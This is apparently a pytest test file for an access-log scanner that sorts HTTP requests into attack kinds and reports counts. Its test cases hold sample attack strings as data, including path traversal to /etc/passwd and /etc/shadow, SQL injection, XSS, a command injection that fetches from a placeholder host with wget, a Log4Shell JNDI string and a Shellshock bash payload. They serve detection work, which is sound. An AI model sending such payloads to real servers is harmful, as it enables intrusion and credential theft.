"""The access-log scanner: which requests count as suspicious, and the report."""

import pytest

from node.logscan import Scanner, classify, parse_line


def line(request, agent="Mozilla/5.0", status=200, addr="203.0.113.10", referer="-"):
    return f'{addr} - - [10/Oct/2026:13:55:36 +0000] "{request}" {status} 123 "{referer}" "{agent}"'


@pytest.mark.parametrize("request_line,agent,kinds", [
    ("GET /index.html HTTP/1.1", "Mozilla/5.0", set()),
    ("GET /search?q=union+of+workers HTTP/1.1", "Mozilla/5.0", set()),  # words, not an attack
    ("GET /../../etc/passwd HTTP/1.1", "curl/8", {"path_traversal"}),
    ("GET /%2e%2e/%2e%2e/etc/shadow HTTP/1.1", "curl/8", {"path_traversal"}),
    ("GET /%252e%252e%252fwin.ini HTTP/1.1", "x", {"path_traversal"}),  # double encoded
    ("GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1", "x", {"sql_injection"}),
    ("GET /login?user=admin'%20or%20'1'='1 HTTP/1.1", "x", {"sql_injection"}),
    ("GET /p?id=1;sleep(5) HTTP/1.1", "x", {"sql_injection"}),
    ("GET /q?s=<script>alert(1)</script> HTTP/1.1", "x", {"xss"}),
    ("GET /cgi?cmd=;wget%20http://x/y HTTP/1.1", "x", {"command_injection"}),
    ("GET / HTTP/1.1", "${jndi:ldap://x/a}", {"log4shell"}),
    ("GET /cgi-bin/status HTTP/1.1", "() { :; }; /bin/bash -c id", {"shellshock", "cms_probe"}),
    ("GET /.env HTTP/1.1", "x", {"sensitive_file"}),
    ("GET /.git/config HTTP/1.1", "x", {"sensitive_file"}),
    ("POST /wp-login.php HTTP/1.1", "x", {"cms_probe"}),
    ("GET / HTTP/1.1", "sqlmap/1.7", {"scanner_agent"}),
    ("GET / HTTP/1.1", "Mozilla/5.00 (Nikto/2.1.6)", {"scanner_agent"}),
    ("\\x16\\x03\\x01\\x00", "-", {"malformed"}),
])
def test_classify(request_line, agent, kinds):
    entry = parse_line(line(request_line, agent))
    assert entry is not None and classify(entry) == kinds


def test_report_counts_per_kind_top_clients_and_samples():
    scanner = Scanner()
    scanner.feed([
        line("GET /index.html HTTP/1.1"),
        line("GET /../../etc/passwd HTTP/1.1", addr="192.0.2.66"),
        line("GET /.env HTTP/1.1", addr="192.0.2.66"),
        line("GET / HTTP/1.1", agent="nmap scripting engine", addr="192.0.2.7"),
        "garbage that is not a log line\n",
    ])
    report = scanner.report()
    assert (report["lines"], report["unparsed"], report["suspicious"]) == (5, 1, 3)
    assert report["kinds"]["path_traversal"] == 1 and report["kinds"]["sensitive_file"] == 1
    assert report["kinds"]["scanner_agent"] == 1 and report["kinds"]["sql_injection"] == 0
    assert report["top_clients"] == {"192.0.2.66": 2, "192.0.2.7": 1}
    assert report["samples"]["path_traversal"] == ["GET /../../etc/passwd HTTP/1.1"]
